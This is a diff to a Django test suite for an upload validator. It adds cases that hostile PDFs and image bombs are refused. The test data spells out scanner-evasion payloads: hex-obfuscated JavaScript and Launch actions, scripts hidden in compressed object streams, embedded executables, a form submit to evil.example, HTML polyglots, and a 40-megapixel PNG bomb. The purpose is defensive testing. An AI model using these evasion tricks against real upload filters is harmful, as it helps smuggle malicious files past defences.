@@ -5,9 +5,12 @@ import io
 import pytest
 from django.core.exceptions import ValidationError
 from PIL import Image
+from pypdf import PdfWriter
+from pypdf.actions import JavaScript
 
 from accounts import services, uploads
 from accounts.models import Evidence
+from programs.images import MAX_DECODED_PIXELS
 from tests.accounts import files
 from tests.accounts.conftest import step
 
@@ -78,10 +81,14 @@ def test_png_text_metadata_is_removed():
         (files.upload("empty.pdf", b""), "empty"),
         (files.upload("truncated.pdf", b"%PDF-1.7\n1 0 obj <<"), "incomplete or damaged"),
         (
+            files.upload("js.pdf", files.pdf_with(b"/OpenAction << /S /JavaScript /JS (x) >>")),
+            "scripts",
+        ),
+        (
             files.upload(
                 "js.pdf", b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (x) >> >>\n%%EOF"
             ),
-            "scripts",
+            "could not be read",
         ),
         (files.upload("broken.jpg", files.image_bytes("JPEG")[:60]), "damaged or incomplete"),
         (files.upload("broken.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40), "damaged or incomplete"),
@@ -142,3 +149,138 @@ def test_photo_is_resized_and_saved_as_jpeg_without_metadata():
 def test_photo_must_be_a_real_image(upload):
     with pytest.raises(ValidationError):
         uploads.validate_photo(upload)
+
+
+# --- PDFs: parsed, not scanned -------------------------------------------------------
+
+EMBEDDED_FILE = {
+    "obj4": b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
+    "obj5": b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+}
+
+
+def _packed_js():
+    """JavaScript inside a compressed object stream: no byte of it is in the file."""
+    objects = dict(files.PAGES)
+    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
+    return files.build_pdf(objects, packed={4: b"<< /S /JavaScript /JS (app.alert(1)) >>"})
+
+
+def _writer_pdf(js=None, attachment=None):
+    """A PDF written by pypdf, optionally with a script or an attached file."""
+    writer = PdfWriter()
+    writer.add_blank_page(width=612, height=792)
+    if js:
+        writer.add_open_action(JavaScript(js))
+    if attachment:
+        writer.add_attachment("invoice.exe", attachment)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        (files.pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "scripts"),
+        (files.pdf_with(b"/OpenAction << /S /L#61unch /F (C:\\calc.exe) >>"), "scripts"),
+        (files.pdf_with(b"/OpenAction << /S /Launch /F (calc.exe) >>"), "scripts"),
+        (_packed_js(), "scripts"),
+        (_writer_pdf(js="app.alert(1)"), "scripts"),
+        (_writer_pdf(attachment=b"MZ\x90\x00"), "attached files"),
+        (files.pdf_with(b"/AA << /WC << /S /JavaScript /JS 4 0 R >> >>", obj4=b"(x)"), "scripts"),
+        (
+            files.pdf_with(
+                b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", **EMBEDDED_FILE
+            ),
+            "attached files",
+        ),
+        (files.pdf_with(b"", **EMBEDDED_FILE), "attached files"),
+        (files.pdf_with(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"), "form"),
+        (files.pdf_with(b"/AcroForm << /Fields [] /XFA 4 0 R >>", obj4=b"(<xdp/>)"), "form"),
+        (b"<html><script>alert(1)</script></html>\n" + files.PDF_BYTES, "not one"),
+        (
+            files.PDF_BYTES.replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
+            "web page code",
+        ),
+        (files.PDF_BYTES + b"PK\x03\x04 a zip file after the end", "other data attached"),
+        (b"%PDF-1.7\nnot a pdf at all\n%%EOF\n", "could not be read"),
+    ],
+)
+def test_pdf_bypasses_of_the_old_byte_scan_are_refused(data, message):
+    with pytest.raises(ValidationError) as info:
+        uploads.validate_evidence(files.upload("score-report.pdf", data))
+    assert message in " ".join(info.value.messages)
+
+
+@pytest.mark.parametrize("data", [files.PDF_BYTES, _writer_pdf()], ids=["by hand", "pypdf"])
+def test_a_plain_pdf_is_accepted(data):
+    clean = uploads.validate_evidence(files.upload("score-report.pdf", data))
+    assert clean.content_type == "application/pdf"
+    assert clean.content.read() == data
+
+
+def test_a_pdf_with_too_many_objects_is_refused_quickly(monkeypatch):
+    monkeypatch.setattr(uploads, "PDF_MAX_OBJECTS", 10)
+    objects = dict(files.PAGES)
+    objects.update({n: b"<< /N %d >>" % n for n in range(4, 40)})
+    with pytest.raises(ValidationError, match="too large or complex"):
+        uploads.validate_evidence(files.upload("big.pdf", files.build_pdf(objects)))
+
+
+# --- Images: bounded memory -----------------------------------------------------------
+
+
+@pytest.fixture
+def decodes(monkeypatch):
+    """The (width, height, mode) of every image decode, as Pillow performs it."""
+    from PIL import ImageFile
+
+    seen = []
+    original = ImageFile.ImageFile.load
+
+    def spy(self):
+        if getattr(self, "tile", None):
+            seen.append((*self.size, self.mode))
+        return original(self)
+
+    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
+    return seen
+
+
+@pytest.mark.parametrize("validate", [uploads.validate_evidence, uploads.validate_photo])
+def test_a_40_megapixel_png_is_refused_from_its_header_without_decoding(validate, decodes):
+    """The penetration test's file: 155 KB, 6320 x 6320 pixels, 550 MB once decoded."""
+    with pytest.raises(ValidationError) as info:
+        validate(files.png_bomb("scan.png", width=6320, height=6320))
+    assert info.value.code == "too_many_pixels"
+    message = " ".join(info.value.messages)
+    assert "6320 by 6320 pixels" in message
+    assert "12.5 megapixels" in message
+    assert decodes == []
+
+
+def test_a_24_megapixel_jpeg_is_accepted_and_decoded_at_half_size(decodes):
+    out = io.BytesIO()
+    Image.new("L", (6000, 4000), 200).save(out, "JPEG")
+    clean = uploads.validate_evidence(files.upload("IMG_0042.jpg", out.getvalue()))
+    assert Image.open(io.BytesIO(clean.content.read())).size == (3000, 2000)
+    assert decodes == [(3000, 2000, "L")]
+
+
+def test_a_big_jpeg_profile_photo_is_decoded_small(decodes):
+    out = io.BytesIO()
+    Image.new("L", (6000, 4000), 200).save(out, "JPEG")
+    clean = uploads.validate_photo(files.upload("me.jpg", out.getvalue()))
+    assert Image.open(io.BytesIO(clean.content.read())).size == (512, 341)
+    (width, height, _mode) = decodes[0]
+    assert width * height <= 1500 * 1000  # 1/4 scale, not 24 megapixels
+
+
+def test_no_decode_is_larger_than_the_memory_bound(decodes):
+    """A 12-megapixel phone photo decodes at full size; nothing decodes larger."""
+    out = io.BytesIO()
+    Image.new("RGB", (4032, 3024), (10, 20, 30)).save(out, "JPEG")
+    uploads.validate_evidence(files.upload("IMG_0043.jpg", out.getvalue()))
+    assert decodes == [(4032, 3024, "RGB")]
+    assert MAX_DECODED_PIXELS >= 4032 * 3024
